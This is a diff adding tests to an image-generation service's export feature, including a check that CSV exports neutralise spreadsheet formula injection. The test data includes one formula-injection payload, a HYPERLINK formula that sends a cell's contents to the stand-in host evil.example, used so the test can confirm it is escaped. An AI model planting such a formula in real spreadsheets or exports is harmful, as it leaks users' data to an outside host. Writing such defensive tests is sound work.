@@ -144,7 +144,59 @@ async def test_stats_lists_and_exports_agree_with_the_records(
                 timeout=60,
             )
             assert done.returncode == 0, done.stderr
+            assert f"{what} of user 'alice'" in done.stderr, "the CLI says whose rows these are"
             written = out.read_bytes().decode()
             assert written.startswith(expected.split("\r\n", 1)[0] + "\r\n"), "same header"
             # Signed image URLs are minted fresh for each export; everything else matches.
             assert without_urls(written) == without_urls(expected)
+
+        # With IMAGEGEN_TOKEN the rows are its user's, and the CLI names that user.
+        bobs = await asyncio.to_thread(
+            subprocess.run,
+            [sys.executable, "-m", "imagegen.cli", "usage", "export"],
+            env={**env, "IMAGEGEN_TOKEN": metadata("bob")[0][1].removeprefix("Bearer ")},
+            capture_output=True,
+            text=True,
+            timeout=60,
+        )
+        assert bobs.returncode == 0, bobs.stderr
+        assert bobs.stdout.strip() == usage_csv.split("\r\n", 1)[0], "bob has no rows"
+        assert "usage of user 'bob'" in bobs.stderr
+
+
+FORMULA_PROMPT = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for a bigger image")'
+
+
+async def test_exports_neutralise_cells_a_spreadsheet_would_run(
+    tmp_path: Path, database_url: str
+) -> None:
+    async with serve_in_process(tmp_path, database_url) as server:
+        port = server.grpc_port
+        for prompt, negative in ((FORMULA_PROMPT, "@SUM(A1:A9)"), ("+1+1", "-2+3")):
+            events, _ = await generate(
+                port,
+                common_pb2.GenerationSpec(
+                    prompt=prompt,
+                    negative_prompt=negative,
+                    size=common_pb2.ImageSize(width=256, height=256),
+                ),
+            )
+            assert events[-1].type == E.GENERATION_EVENT_TYPE_COMPLETED
+        async with grpc.aio.insecure_channel(f"127.0.0.1:{port}", options=CHANNEL_OPTIONS) as ch:
+            stub = usage_pb2_grpc.UsageServiceStub(ch)
+            history_csv = b"".join(
+                [
+                    m.data
+                    async for m in stub.ExportGenerations(
+                        U.ExportGenerationsRequest(), metadata=metadata()
+                    )
+                ]
+            ).decode()
+    history = list(csv.DictReader(io.StringIO(history_csv)))
+    assert [(h["prompt"], h["negative_prompt"]) for h in history] == [
+        ("'" + FORMULA_PROMPT, "'@SUM(A1:A9)"),
+        ("'+1+1", "'-2+3"),
+    ]
+    # No cell of the file starts a formula.
+    for row in csv.reader(io.StringIO(history_csv)):
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
